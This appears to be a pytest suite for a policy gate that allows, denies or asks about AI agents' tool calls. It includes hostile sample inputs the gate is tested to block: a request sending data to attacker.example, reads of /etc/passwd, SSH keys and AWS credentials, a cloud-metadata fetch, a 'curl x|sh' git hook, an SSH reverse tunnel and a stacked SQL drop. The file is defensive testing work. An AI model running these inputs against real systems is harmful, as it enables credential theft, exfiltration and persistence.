"""The tool gate, read as a threat list: each case names what it stops (or lets through)
when an agent calls a tool rather than running a command."""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import Any

import pytest

from corral import Policy
from corral.errors import PolicyError
from corral.model import Action, ActionKind, Category, Decision, Verdict

POLICY: dict[str, Any] = {
    "version": 1,
    "name": "tools-test",
    "extends": "swe",
    "filesystem": {"read_only": ["vendor"], "writable": ["/srv/cache"]},
    "tools": {
        "allow": ["fs/*", "web/fetch", "db/*", "shell/run", "git/*"],
        "ask": ["git/push*"],
        "deny": ["fs/delete_*", "*/format_disk"],
        "rules": [
            {
                "id": "fs-read",
                "tool": ["fs/read_*", "fs/list_*"],
                "args": {"$.path": {"path": "read", "required": True}},
            },
            {
                "id": "fs-write",
                "tool": "fs/write_*",
                "args": {"$.path": {"path": "write", "required": True}},
            },
            {
                "id": "fs-edits",
                "tool": "fs/edit_many",
                "args": {"$.edits[*].file": {"path": "write"}},
            },
            {"id": "web-urls", "tool": "web/*", "args": {"$.url": {"url": True}}},
            {
                "id": "db-read-only",
                "tool": "db/query",
                "args": {"$.sql": {"pattern": r"(?is)\s*select\b.*", "not_pattern": r";\s*\S"}},
                "reason": "the database is read-only to agents",
            },
            {
                "id": "db-limits",
                "tool": "db/*",
                "schema": {
                    "type": "object",
                    "properties": {"limit": {"type": "integer", "minimum": 1, "maximum": 100}},
                },
            },
            {"id": "shell-commands", "tool": "shell/run", "args": {"$.command": {"command": True}}},
            {
                "id": "git-branch",
                "tool": "git/checkout",
                "args": {"$.branch": {"not_pattern": "^main$"}},
                "decision": "ask",
                "category": "destruction",
            },
        ],
    },
}
POL = Policy.from_dict(POLICY)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("x = 1\n")
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / "vendor").mkdir()
    return tmp_path


def call(name: str, args: Any, ws: Path, policy: Policy = POL) -> Decision:
    server, _, tool = name.partition("/")
    action = Action(ActionKind.TOOL, {"server": server, "tool": tool, "args": args})
    d = policy.check_action(action, workspace=ws)
    assert d.action_id == action.id and d.policy_hash == policy.hash
    return d


def denied(d: Decision, rule: str, *words: str, category: Category | None = None) -> None:
    assert d.verdict is Verdict.DENY, d
    assert d.rule == rule, d
    assert d.category == category, d
    for w in words:
        assert w in d.reason, (w, d.reason)


# -- names ------------------------------------------------------------------------------


def test_an_allowed_tool_with_good_arguments_is_allowed(ws: Path) -> None:
    d = call("fs/read_file", {"path": "src/a.py"}, ws)
    assert d.verdict is Verdict.ALLOW and d.rule == "allow"
    assert call("fs/list_dir", {"path": str(ws / "src")}, ws).allowed
    assert call("git/status", {}, ws).allowed


def test_a_tool_nobody_listed_is_denied_by_default(ws: Path) -> None:
    d = call("cloud/create_instance", {"size": "xl"}, ws)
    denied(d, "tool-default", "cloud/create_instance", "tools.allow", "default is deny")


def test_the_deny_list_wins_over_the_allow_list(ws: Path) -> None:
    denied(call("fs/delete_file", {"path": "src/a.py"}, ws), "tool-deny-list", "tools.deny")
    denied(call("anything/format_disk", {}, ws), "tool-deny-list", "anything/format_disk")


def test_the_ask_list_asks(ws: Path) -> None:
    d = call("git/push", {"remote": "origin"}, ws)
    assert d.verdict is Verdict.ASK and d.rule == "tool-ask-list"
    assert "needs approval (tools.ask)" in d.reason


def test_a_server_glob_does_not_swallow_the_tool_name(ws: Path) -> None:
    # "*/format_disk" names a tool called format_disk on any server, not a tool whose
    # name merely ends in it behind a slash.
    d = call("tricky/sub/format_disk", {}, ws)
    assert d.rule == "tool-default", d


def test_arguments_that_are_not_an_object_are_denied(ws: Path) -> None:
    denied(call("fs/read_file", ["src/a.py"], ws), "tool-bad-args", "must be a JSON object")


# -- paths ------------------------------------------------------------------------------


def test_reading_outside_the_workspace_is_denied(ws: Path) -> None:
    d = call("fs/read_file", {"path": "/etc/passwd"}, ws)
    denied(d, "tool-path-outside", "'/etc/passwd'", "outside the workspace", "fs-read")
    denied(call("fs/read_file", {"path": "../../etc/passwd"}, ws), "tool-path-outside")


def test_a_symlink_in_the_workspace_is_followed_to_where_it_leads(ws: Path) -> None:
    (ws / "innocent.txt").symlink_to("/etc/hostname")
    d = call("fs/read_file", {"path": "innocent.txt"}, ws)
    denied(d, "tool-path-outside", "through a symbolic link", "/etc/hostname")


def test_hidden_credentials_are_denied_as_credential_access(ws: Path) -> None:
    d = call("fs/read_file", {"path": "~/.ssh/id_ed25519"}, ws)
    denied(d, "policy-hidden-path", "is hidden by the policy", category=Category.CREDENTIAL_ACCESS)
    d = call("fs/read_file", {"path": "file:///root/.aws/credentials"}, ws)
    denied(d, "policy-hidden-path", category=Category.CREDENTIAL_ACCESS)


def test_a_missing_required_path_is_denied(ws: Path) -> None:
    denied(call("fs/read_file", {}, ws), "tool-arg-missing", "$.path is missing")


def test_writing_a_git_hook_is_denied_as_persistence(ws: Path) -> None:
    d = call("fs/write_file", {"path": ".git/hooks/post-checkout", "content": "curl x|sh"}, ws)
    denied(d, "tool-path-protected", "protected", category=Category.PERSISTENCE)


def test_writing_a_read_only_path_is_denied_but_reading_it_is_not(ws: Path) -> None:
    denied(call("fs/write_file", {"path": "vendor/lib.py"}, ws), "tool-path-read-only")
    assert call("fs/read_file", {"path": "vendor/lib.py"}, ws).allowed


def test_a_writable_path_outside_the_workspace_may_be_written(ws: Path) -> None:
    assert call("fs/write_file", {"path": "/srv/cache/x"}, ws).allowed
    denied(call("fs/write_file", {"path": "/srv/other"}, ws), "tool-path-outside")


def test_every_value_a_wildcard_path_names_is_checked(ws: Path) -> None:
    ok = {"edits": [{"file": "src/a.py"}, {"file": "src/b.py"}]}
    assert call("fs/edit_many", ok, ws).allowed
    bad = {"edits": [{"file": "src/a.py"}, {"file": "/etc/cron.d/x"}]}
    denied(call("fs/edit_many", bad, ws), "tool-path-outside", "$.edits[*].file", "/etc/cron.d/x")


def test_a_path_that_is_not_text_is_denied(ws: Path) -> None:
    denied(call("fs/read_file", {"path": 7}, ws), "tool-path", "must be a path")


# -- URLs -------------------------------------------------------------------------------


def test_a_url_on_the_network_allowlist_is_allowed(ws: Path) -> None:
    assert call("web/fetch", {"url": "https://pypi.org/simple/requests/"}, ws).allowed


def test_a_url_off_the_network_allowlist_is_denied(ws: Path) -> None:
    d = call("web/fetch", {"url": "https://attacker.example/collect?k=v"}, ws)
    denied(
        d,
        "net-not-allowed",
        "attacker.example:443",
        "not on the network allowlist",
        category=Category.EXFILTRATION,
    )


def test_the_cloud_metadata_service_is_denied(ws: Path) -> None:
    d = call("web/fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/"}, ws)
    denied(d, "net-metadata", "metadata service", category=Category.CREDENTIAL_ACCESS)


def test_the_hosts_loopback_is_denied_without_an_explicit_rule(ws: Path) -> None:
    d = call("web/fetch", {"url": "http://127.0.0.1:2375/containers/json"}, ws)
    denied(d, "net-internal", "loopback is the host's own", category=Category.RECON)


def test_no_network_means_no_url_tool(ws: Path) -> None:
    strict = Policy.from_dict(
        {
            "version": 1,
            "extends": "strict",
            "tools": {"allow": ["web/*"], "rules": POLICY["tools"]["rules"][3:4]},
        }
    )
    d = call("web/fetch", {"url": "https://pypi.org/"}, ws, strict)
    denied(d, "net-off", "network.mode: none", category=Category.EXFILTRATION)


def test_a_file_url_is_a_path(ws: Path) -> None:
    denied(call("web/fetch", {"url": "file:///etc/passwd"}, ws), "tool-path-outside")


def test_text_that_names_no_host_is_denied(ws: Path) -> None:
    denied(call("web/fetch", {"url": "not a url at all"}, ws), "tool-url", "names no host")


# -- patterns, schemas, commands ---------------------------------------------------------


def test_a_pattern_the_value_must_match(ws: Path) -> None:
    assert call("db/query", {"sql": "SELECT id FROM users", "limit": 10}, ws).allowed
    d = call("db/query", {"sql": "DELETE FROM users"}, ws)
    denied(
        d, "tool-pattern", "the database is read-only to agents", "does not match", "db-read-only"
    )


def test_a_pattern_the_value_must_not_contain(ws: Path) -> None:
    d = call("db/query", {"sql": "select 1; drop table users"}, ws)
    denied(d, "tool-pattern", "contains", "forbids")


def test_a_json_schema_violation_is_denied_with_its_path(ws: Path) -> None:
    d = call("db/query", {"sql": "select 1", "limit": 10_000}, ws)
    denied(d, "tool-schema", "JSON Schema", "$.limit", "maximum of 100")
    d = call("db/export", {"limit": "all"}, ws)
    denied(d, "tool-schema", "$.limit", "is not of type 'integer'")


def test_a_command_argument_is_judged_by_the_shell_gate(ws: Path) -> None:
    assert call("shell/run", {"command": "pytest -q tests/"}, ws).allowed
    d = call("shell/run", {"command": "ssh -fN -R 2222:localhost:22 ops@203.0.113.7"}, ws)
    assert d.verdict is Verdict.DENY and d.category is Category.TUNNEL, d
    assert "$.command" in d.reason and "shell-commands" in d.reason
    # The shell gate only asks about an unknown program under swe; so does the tool gate.
    assert call("shell/run", {"command": "frobnicate --all"}, ws).verdict is Verdict.ASK


def test_a_rule_may_ask_and_name_its_category(ws: Path) -> None:
    d = call("git/checkout", {"branch": "main"}, ws)
    assert d.verdict is Verdict.ASK and d.category is Category.DESTRUCTION, d
    assert call("git/checkout", {"branch": "fix-1"}, ws).allowed


def test_the_strictest_finding_wins(ws: Path) -> None:
    # Denied by the list and by a path rule: the hidden path's category is kept.
    d = call("fs/delete_file", {"path": "~/.ssh/id_rsa"}, ws)
    assert d.verdict is Verdict.DENY


# -- corral mcp's own tools under the presets --------------------------------------------


@pytest.mark.parametrize("preset", ["strict", "swe", "rl-rollout", "rl-agent"])
def test_presets_allow_corral_mcp_tools_inside_the_workspace_only(preset: str, ws: Path) -> None:
    p = Policy.load(preset)
    assert call("corral/read_file", {"path": "src/a.py"}, ws, p).allowed
    assert call("corral/list_files", {"path": "."}, ws, p).allowed
    assert call("corral/run_command", {"command": "ls"}, ws, p).allowed
    assert call("corral/write_file", {"path": "out.txt", "content": ""}, ws, p).allowed
    denied(call("corral/read_file", {"path": "/etc/passwd"}, ws, p), "tool-path-outside")
    d = call("corral/write_file", {"path": ".git/config"}, ws, p)
    denied(d, "tool-path-protected", category=Category.PERSISTENCE)
    denied(call("other/tool", {}, ws, p), "tool-default")


def test_relative_paths_default_to_the_current_directory(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(ws)
    action = Action(
        ActionKind.TOOL, {"server": "fs", "tool": "read_file", "args": {"path": "src/a.py"}}
    )
    assert POL.check_action(action).allowed


# -- the policy file ----------------------------------------------------------------------


def load_yaml(tmp_path: Path, text: str) -> Policy:
    path = tmp_path / "p.yaml"
    path.write_text(textwrap.dedent(text).lstrip("\n"))
    return Policy.load(path)


@pytest.mark.parametrize(
    ("body", "line", "key", "words"),
    [
        ("allow: [nope]", 3, "tools.allow[0]", "expected 'server/tool'"),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      args:\n        $.path: {path: reed}",
            7,
            "tools.rules[0].args.$.path.path",
            "did you mean 'read'",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      args:\n        $.a b: {url: true}",
            7,
            "tools.rules[0].args.$.a b",
            "JSON path",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      args:\n        $.q: {pattern: '('}",
            7,
            "tools.rules[0].args.$.q.pattern",
            "invalid regular expression",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      schema: {type: objekt}",
            6,
            "tools.rules[0].schema",
            "not a valid JSON Schema",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      schem: {}",
            6,
            "tools.rules[0].schem",
            "did you mean 'schema'",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      args: {$.p: {path: read}}\n      decision: allow",
            7,
            "tools.rules[0].decision",
            "must be deny or ask",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*",
            4,
            "tools.rules[0]",
            "needs args, schema or both",
        ),
        (
            "rules:\n    - id: r\n      tool: fs/*\n      args: {$.p: {}}",
            6,
            "tools.rules[0].args.$.p",
            "needs at least one of",
        ),
    ],
)
def test_errors_in_the_tools_section_name_file_line_and_key(
    tmp_path: Path, body: str, line: int, key: str, words: str
) -> None:
    text = "version: 1\ntools:\n  " + body + "\n"
    path = tmp_path / "p.yaml"
    path.write_text(text)
    with pytest.raises(PolicyError) as info:
        Policy.load(path)
    err = info.value
    assert (err.file, err.line, err.key) == (str(path), line, key), str(err)
    assert words in str(err)
    assert "\n" not in str(err)


def test_extends_merges_tool_rules_by_id(tmp_path: Path, ws: Path) -> None:
    (tmp_path / "base.yaml").write_text(
        "version: 1\nextends: swe\ntools:\n  allow: [fs/*]\n  rules:\n"
        "    - {id: p, tool: fs/*, args: {$.path: {path: read}}}\n"
    )
    child = load_yaml(
        tmp_path,
        """
        version: 1
        extends: ./base.yaml
        tools:
          rules:
            - {id: p, tool: fs/*, args: {$.path: {pattern: 'src/.*'}}}
        """,
    )
    assert [r.id for r in child.spec.tools.rules] == [
        "corral-read-paths",
        "corral-write-paths",
        "p",
    ]
    assert call("fs/read_file", {"path": "src/a.py"}, ws, child).allowed
    assert call("fs/read_file", {"path": "docs/x"}, ws, child).rule == "tool-pattern"


def test_a_policy_with_tool_rules_round_trips_through_yaml(tmp_path: Path) -> None:
    path = tmp_path / "shown.yaml"
    path.write_text(POL.to_yaml())
    again = Policy.load(path)
    assert again.hash == POL.hash
    rules = {r.id: r for r in again.spec.tools.rules}
    assert rules["db-limits"].json_schema == POLICY["tools"]["rules"][5]["schema"]


def test_a_workspace_under_a_hidden_path_is_still_the_workspace() -> None:
    # /root is hidden by every preset, yet the sandbox binds a workspace there over it.
    ws = Path("/root/project-under-hidden-home")
    assert call("corral/read_file", {"path": "src/a.py"}, ws, Policy.load("strict")).allowed
    d = call("corral/read_file", {"path": "/root/.ssh/id_rsa"}, ws, Policy.load("strict"))
    denied(d, "policy-hidden-path", category=Category.CREDENTIAL_ACCESS)
